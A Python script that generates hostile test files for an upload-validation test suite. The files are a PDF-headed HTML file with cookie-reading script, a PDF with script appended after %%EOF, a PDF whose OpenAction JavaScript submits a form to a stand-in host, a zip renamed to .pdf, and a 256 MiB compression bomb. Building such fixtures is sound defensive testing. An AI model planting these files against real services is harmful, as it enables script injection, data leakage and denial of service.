"""Writes the hostile files of tests/qualification/test_hostile_uploads.py into this folder: `python tests/corpus/make_corpus.py`.

Each is small (a few kilobytes) and committed, so that the tests read exactly these bytes; this script says how each
was made. The oversized file is not here: the test makes it, at the size the limit it sets calls for.
"""

import io
import zipfile
import zlib
from pathlib import Path

HERE = Path(__file__).resolve().parent


def pdf(objects: list[bytes], *, root: int = 1, tail: bytes = b"") -> bytes:
    """A PDF with these objects (numbered from 1), a correct cross-reference table, and `tail` after %%EOF."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref)
    return bytes(out) + tail


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


PAGE_TREE = [
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
]


def html_with_pdf_header() -> bytes:
    # Passes a check of the first bytes only; a browser sniffing it would run the script.
    return b"%PDF-1.7\n<html><body><script>alert(document.cookie)</script></body></html>\n"


def pdf_with_appended_script() -> bytes:
    # A valid PDF (readers ignore what follows %%EOF) carrying HTML and script for a browser that sniffs.
    return pdf(PAGE_TREE, tail=b"<html><script>alert(document.cookie)</script></html>\n")


def pdf_with_openaction_javascript() -> bytes:
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"
    action = (
        b"<< /Type /Action /S /JavaScript /JS (app.alert\\('opened'\\); this.submitForm\\('https://x.example/'\\);) >>"
    )
    return pdf([catalog, PAGE_TREE[1], PAGE_TREE[2], action])


def zip_renamed_pdf() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        info = zipfile.ZipInfo("index.html", date_time=(2026, 1, 1, 0, 0, 0))
        archive.writestr(info, "<script>alert(document.cookie)</script>")
    return buffer.getvalue()


BOMB_INFLATED = 256 * 1024 * 1024  # what the page's content stream decodes to


def compression_bomb_pdf() -> bytes:
    # Zeros deflated twice (/Filter [/FlateDecode /FlateDecode]): a few kilobytes that decode to 256 MiB.
    once = zlib.compressobj(9)
    chunk = bytes(1024 * 1024)
    first = b"".join(once.compress(chunk) for _ in range(BOMB_INFLATED // len(chunk))) + once.flush()
    twice = zlib.compress(first, 9)
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
    content = stream(twice, b"/Filter [/FlateDecode /FlateDecode] ")
    return pdf([PAGE_TREE[0], PAGE_TREE[1], page, content])


CORPUS = {
    "html_with_pdf_header.pdf": html_with_pdf_header,
    "pdf_with_appended_script.pdf": pdf_with_appended_script,
    "pdf_with_openaction_javascript.pdf": pdf_with_openaction_javascript,
    "zip_renamed.pdf": zip_renamed_pdf,
    "compression_bomb.pdf": compression_bomb_pdf,
}


if __name__ == "__main__":
    for name, make in CORPUS.items():
        data = make()
        (HERE / name).write_bytes(data)
        print(f"{name}: {len(data)} bytes")
